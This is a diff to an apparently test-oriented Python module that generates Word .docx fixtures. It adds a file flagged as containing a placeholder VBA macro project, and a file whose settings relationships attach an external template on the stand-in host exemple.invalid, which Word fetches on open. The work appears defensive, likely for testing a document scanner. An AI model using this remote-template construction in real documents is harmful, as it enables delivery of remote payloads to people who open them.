@@ -6,6 +6,7 @@
 from __future__ import annotations
 
 import itertools
+import zipfile
 from io import BytesIO
 from xml.sax.saxutils import escape, quoteattr
 
@@ -145,3 +146,32 @@ def sans_controles() -> bytes:
     sortie = BytesIO()
     d.save(sortie)
     return sortie.getvalue()
+
+
+def _avec(docx: bytes, parties: dict[str, bytes]) -> bytes:
+    """``docx`` with these parts written or replaced."""
+    sortie = BytesIO()
+    with zipfile.ZipFile(BytesIO(docx)) as source, zipfile.ZipFile(sortie, "w") as z:
+        for nom in source.namelist():
+            if nom not in parties:
+                z.writestr(nom, source.read(nom))
+        for nom, contenu in parties.items():
+            z.writestr(nom, contenu)
+    return sortie.getvalue()
+
+
+def avec_macros(docx: bytes) -> bytes:
+    """``docx`` saved as Word saves a document with macros (a VBA project)."""
+    types = zipfile.ZipFile(BytesIO(docx)).read("[Content_Types].xml").replace(
+        b"</Types>", b'<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'
+                     b"</Types>")
+    return _avec(docx, {"[Content_Types].xml": types, "word/vbaProject.bin": b"\0" * 64})
+
+
+def avec_modele_attache(docx: bytes, cible: str = "http://exemple.invalid/modele.dotm") -> bytes:
+    """``docx`` attached to a template outside the document (fetched when Word opens it)."""
+    return _avec(docx, {"word/_rels/settings.xml.rels": (
+        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="http://'
+        'schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId9" Type="http:'
+        '//schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
+        f'Target="{cible}" TargetMode="External"/></Relationships>').encode()})
